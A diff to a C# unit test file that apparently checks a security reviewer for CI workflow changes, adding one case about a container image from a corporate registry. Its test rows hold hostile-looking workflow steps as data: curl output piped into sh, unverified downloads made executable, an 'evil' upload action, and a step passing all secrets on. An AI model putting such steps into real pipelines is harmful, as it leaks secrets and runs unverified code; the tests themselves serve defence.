@@ -79,6 +79,7 @@ public sealed class SecurityReviewTests
     [DataRow("run: pytest", "run: pytest\n        env:\n          A: ${{ toJSON(secrets) }}", "Tidy", 17, "all secrets", "Pass the secrets on")]
     [DataRow("run: pytest", $"run: pytest\n      - uses: evil/upload@{Commit}", "Tidy", 16, "comes from evil", "Upload by evil/upload")]
     [DataRow("run: pytest", "run: pytest\n      - uses: docker://quay.io/evil/scan:1.2.3", "Tidy", 16, "comes from quay.io/evil", "Use the image of evil")]
+    [DataRow("run: pytest", "run: pytest\n      - uses: docker://registry.corp.io/scan:1.2.3", "Tidy", 16, "comes from registry.corp.io, which", "Scan by registry.corp.io/scan")]
     [DataRow("run: pytest", "run: pytest\n      - run: curl -fsSL https://example.com/tool.sh | sh", "Tidy", 16, "run without being verified", "Install the tool of example.com")]
     [DataRow("run: pytest", "run: |\n          pytest\n          curl -fsSLo tool https://example.com/x\n          chmod +x tool", "Tidy", 17, "run without being verified", "Install from example.com")]
     [DataRow("run: pytest", "run: |\n          pytest\n          sh -c \"$(curl -fsSL https://example.com/x)\"", "Tidy", 17, "run without being verified", "Install from example.com")]
